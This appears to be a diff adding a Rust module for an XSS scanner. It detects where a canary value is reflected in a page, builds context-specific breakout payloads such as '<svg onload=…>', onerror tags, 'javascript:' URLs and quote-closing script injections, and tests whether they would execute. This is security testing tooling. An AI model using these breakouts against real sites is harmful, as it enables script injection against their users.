@@ -0,0 +1,282 @@
+use rand::Rng;
+use regex::Regex;
+use scraper::{Html, Node, Selector};
+
+// Attributes whose value the browser treats as a url, where javascript: runs
+const URL_ATTRIBUTES: &[&str] = &["href", "src", "action", "formaction", "data", "poster", "background"];
+
+// Elements whose content is parsed as plain text until the matching end tag
+const RAW_TEXT: &[&str] = &["textarea", "title", "xmp", "noembed", "noframes"];
+
+// Where a reflected value landed in the page, quote is ' ', '"' or '\'' for attributes
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub enum CONTEXT {
+    HTML,
+    RAWTEXT(String),
+    ATTRIBUTE(char),
+    URL(char),
+    EVENT(char),
+    // Open string quote inside the script, None when the value sits in plain code
+    SCRIPT(Option<char>),
+    COMMENT,
+}
+
+impl CONTEXT {
+    pub fn describe(&self) -> String {
+        match self {
+            CONTEXT::HTML => "HTML text".to_string(),
+            CONTEXT::RAWTEXT(tag) => format!("<{}> text", tag),
+            CONTEXT::ATTRIBUTE(' ') => "unquoted attribute".to_string(),
+            CONTEXT::ATTRIBUTE(quote) => format!("{}-quoted attribute", quote),
+            CONTEXT::URL(_) => "URL attribute".to_string(),
+            CONTEXT::EVENT(_) => "event handler attribute".to_string(),
+            CONTEXT::SCRIPT(Some(quote)) => format!("{}-quoted script string", quote),
+            CONTEXT::SCRIPT(None) => "script code".to_string(),
+            CONTEXT::COMMENT => "HTML comment".to_string(),
+        }
+    }
+}
+
+// Alphanumeric so no filter or encoder touches it, doubles as the function name breakouts call
+pub fn canary() -> String {
+    format!("krkx{}", rand::thread_rng().gen_range(100000..999999))
+}
+
+// String quote still open at the end of a piece of javascript
+pub fn open_quote(script: &str) -> Option<char> {
+    let mut quote = None;
+    let mut escaped = false;
+    for c in script.chars() {
+        match quote {
+            Some(_) if escaped => escaped = false,
+            Some(_) if c == '\\' => escaped = true,
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == '\'' || c == '"' || c == '`' => quote = Some(c),
+            None => {}
+        }
+    }
+    quote
+}
+
+// Quote around the attribute value holding canary, read from the raw body since the parser drops it
+fn attribute_quote(body: &str, name: &str, canary: &str) -> char {
+    let pattern = format!(r#"(?is)\b{}\s*=\s*(["']?)[^>]*?{}"#, regex::escape(name), canary);
+    Regex::new(&pattern)
+        .ok()
+        .and_then(|re| re.captures(body))
+        .and_then(|caps| caps.get(1))
+        .and_then(|quote| quote.as_str().chars().next())
+        .unwrap_or(' ')
+}
+
+// Every context canary shows up in, text, comments and attribute values alike
+pub fn contexts(body: &str, canary: &str) -> Vec<CONTEXT> {
+    let document = Html::parse_document(body);
+    let mut found = vec![];
+
+    for node in document.tree.nodes() {
+        let context = match node.value() {
+            Node::Text(text) if text.contains(canary) => {
+                let text: &str = text;
+                let parent = node.parent().and_then(|parent| parent.value().as_element().map(|e| e.name().to_string()));
+                match parent.as_deref() {
+                    Some("script") => {
+                        let before = &text[..text.find(canary).unwrap_or(0)];
+                        Some(CONTEXT::SCRIPT(open_quote(before)))
+                    }
+                    // CSS injection is out of scope here
+                    Some("style") => None,
+                    Some(tag) if RAW_TEXT.contains(&tag) => Some(CONTEXT::RAWTEXT(tag.to_string())),
+                    _ => Some(CONTEXT::HTML),
+                }
+            }
+            Node::Comment(comment) if comment.contains(canary) => Some(CONTEXT::COMMENT),
+            Node::Element(element) => {
+                for (name, value) in element.attrs() {
+                    if !value.contains(canary) {
+                        continue;
+                    }
+                    let quote = attribute_quote(body, name, canary);
+                    let context = if name.starts_with("on") {
+                        CONTEXT::EVENT(quote)
+                    } else if URL_ATTRIBUTES.contains(&name) {
+                        CONTEXT::URL(quote)
+                    } else {
+                        CONTEXT::ATTRIBUTE(quote)
+                    };
+                    if !found.contains(&context) {
+                        found.push(context);
+                    }
+                }
+                None
+            }
+            _ => None,
+        };
+        if let Some(context) = context {
+            if !found.contains(&context) {
+                found.push(context);
+            }
+        }
+    }
+    found
+}
+
+// Breakouts for context, each calling mark(1) once it runs. The bool asks for the parameter's
+// whole value to be replaced instead of appended to
+pub fn breakouts(context: &CONTEXT, mark: &str) -> Vec<(String, bool)> {
+    let call = format!("{}(1)", mark);
+    let tag = format!("<svg onload={}>", call);
+    let appended = |payloads: Vec<String>| payloads.into_iter().map(|p| (p, false)).collect::<Vec<_>>();
+
+    match context {
+        CONTEXT::HTML => appended(vec![
+            tag.clone(),
+            format!("<img src=x onerror={}>", call),
+            format!("<details open ontoggle={}>", call),
+        ]),
+        CONTEXT::RAWTEXT(name) => appended(vec![format!("</{}>{}", name, tag)]),
+        CONTEXT::ATTRIBUTE(' ') => appended(vec![
+            format!(" autofocus onfocus={} x=", call),
+            format!(">{}", tag),
+        ]),
+        CONTEXT::ATTRIBUTE(quote) => appended(vec![
+            format!("{q} autofocus onfocus={c} x={q}", q = quote, c = call),
+            format!("{}>{}", quote, tag),
+        ]),
+        CONTEXT::URL(quote) => {
+            let mut payloads = vec![
+                (format!("javascript:{}", call), true),
+                (format!("JaVaScRiPt:{}", call), true),
+            ];
+            let breakout = if *quote == ' ' { format!(">{}", tag) } else { format!("{}>{}", quote, tag) };
+            payloads.push((breakout, false));
+            payloads
+        }
+        CONTEXT::EVENT(quote) => {
+            let mut payloads = appended(vec![
+                format!("';{};//", call),
+                format!("\";{};//", call),
+            ]);
+            let breakout = if *quote == ' ' { format!(">{}", tag) } else { format!("{}>{}", quote, tag) };
+            payloads.push((breakout, false));
+            payloads
+        }
+        CONTEXT::SCRIPT(Some(quote)) => appended(vec![
+            format!("{q};{c};//", q = quote, c = call),
+            format!("{q}-{c}-{q}", q = quote, c = call),
+            format!("</script>{}", tag),
+        ]),
+        CONTEXT::SCRIPT(None) => appended(vec![
+            format!(";{};//", call),
+            format!("</script>{}", tag),
+        ]),
+        CONTEXT::COMMENT => appended(vec![format!("-->{}", tag)]),
+    }
+}
+
+// mark(1) somewhere the browser would run it, not just somewhere it is printed
+pub fn executable(body: &str, mark: &str) -> bool {
+    let call = format!("{}(1)", mark);
+    let document = Html::parse_document(body);
+    let runs = |code: &str| code.find(&call).is_some_and(|at| open_quote(&code[..at]).is_none());
+
+    for node in document.tree.nodes() {
+        if let Node::Element(element) = node.value() {
+            for (name, value) in element.attrs() {
+                if name.starts_with("on") && runs(value) {
+                    return true;
+                }
+                if URL_ATTRIBUTES.contains(&name) {
+                    let value = value.trim_start().to_lowercase();
+                    if value.starts_with("javascript:") && runs(&value["javascript:".len()..]) {
+                        return true;
+                    }
+                }
+            }
+        }
+    }
+
+    let scripts = Selector::parse("script:not([src])").unwrap();
+    document
+        .select(&scripts)
+        .any(|script| runs(&script.text().collect::<String>()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const CANARY: &str = "krkx123456";
+
+    fn page(inner: &str) -> String {
+        format!("<html><head><title>t</title></head><body>{}</body></html>", inner.replace("{}", CANARY))
+    }
+
+    #[test]
+    fn text_comment_and_raw_text() {
+        assert_eq!(contexts(&page("<p>Results for {}</p>"), CANARY), vec![CONTEXT::HTML]);
+        assert_eq!(contexts(&page("<!-- q={} -->"), CANARY), vec![CONTEXT::COMMENT]);
+        assert_eq!(contexts(&page("<textarea>{}</textarea>"), CANARY), vec![CONTEXT::RAWTEXT("textarea".to_string())]);
+        assert!(contexts(&page("<style>.{} {}</style>"), CANARY).is_empty());
+        assert!(contexts(&page("<p>nothing here</p>"), CANARY).is_empty());
+    }
+
+    #[test]
+    fn attribute_quotes() {
+        assert_eq!(contexts(&page(r#"<input value="{}">"#), CANARY), vec![CONTEXT::ATTRIBUTE('"')]);
+        assert_eq!(contexts(&page("<input value='{}'>"), CANARY), vec![CONTEXT::ATTRIBUTE('\'')]);
+        assert_eq!(contexts(&page("<input value={}>"), CANARY), vec![CONTEXT::ATTRIBUTE(' ')]);
+        assert_eq!(contexts(&page(r#"<a href="/search?q={}">x</a>"#), CANARY), vec![CONTEXT::URL('"')]);
+        assert_eq!(contexts(&page(r#"<div onclick="go('{}')">x</div>"#), CANARY), vec![CONTEXT::EVENT('"')]);
+    }
+
+    #[test]
+    fn script_strings_and_code() {
+        assert_eq!(contexts(&page("<script>var q = '{}';</script>"), CANARY), vec![CONTEXT::SCRIPT(Some('\''))]);
+        assert_eq!(contexts(&page(r#"<script>var q = "a\"{}";</script>"#), CANARY), vec![CONTEXT::SCRIPT(Some('"'))]);
+        assert_eq!(contexts(&page("<script>var n = {};</script>"), CANARY), vec![CONTEXT::SCRIPT(None)]);
+    }
+
+    #[test]
+    fn every_context_has_breakouts_calling_the_mark() {
+        let all = [
+            CONTEXT::HTML,
+            CONTEXT::RAWTEXT("title".to_string()),
+            CONTEXT::ATTRIBUTE(' '),
+            CONTEXT::ATTRIBUTE('"'),
+            CONTEXT::URL('\''),
+            CONTEXT::EVENT('"'),
+            CONTEXT::SCRIPT(Some('\'')),
+            CONTEXT::SCRIPT(None),
+            CONTEXT::COMMENT,
+        ];
+        for context in all {
+            let payloads = breakouts(&context, CANARY);
+            assert!(!payloads.is_empty(), "{:?}", context);
+            assert!(payloads.iter().all(|(payload, _)| payload.contains(&format!("{}(1)", CANARY))), "{:?}", context);
+        }
+        // Only a url attribute gets its whole value replaced
+        assert!(breakouts(&CONTEXT::URL('"'), CANARY).iter().any(|(payload, replace)| *replace && payload.starts_with("javascript:")));
+        assert!(breakouts(&CONTEXT::HTML, CANARY).iter().all(|(_, replace)| !replace));
+    }
+
+    #[test]
+    fn breakouts_execute_once_reflected() {
+        let body = page(r#"<input value="{}">"#).replace(CANARY, &format!("{}\" autofocus onfocus={}(1) x=\"", CANARY, CANARY));
+        assert!(executable(&body, CANARY));
+        let body = page("<script>var q = '{}';</script>").replace(CANARY, &format!("{}';{}(1);//", CANARY, CANARY));
+        assert!(executable(&body, CANARY));
+        let body = page("<a href=\"{}\">x</a>").replace(CANARY, &format!("javascript:{}(1)", CANARY));
+        assert!(executable(&body, CANARY));
+    }
+
+    #[test]
+    fn printed_is_not_executable() {
+        let call = format!("{}(1)", CANARY);
+        assert!(!executable(&page(&format!("<p>&lt;svg onload={}&gt;</p>", call)), CANARY));
+        assert!(!executable(&page(&format!("<script>var q = '{}';</script>", call)), CANARY));
+        assert!(!executable(&page(&format!("<input value=\"{}\">", call)), CANARY));
+        assert!(!executable(&page(&format!("<a href=\"/x?{}\">x</a>", call)), CANARY));
+    }
+}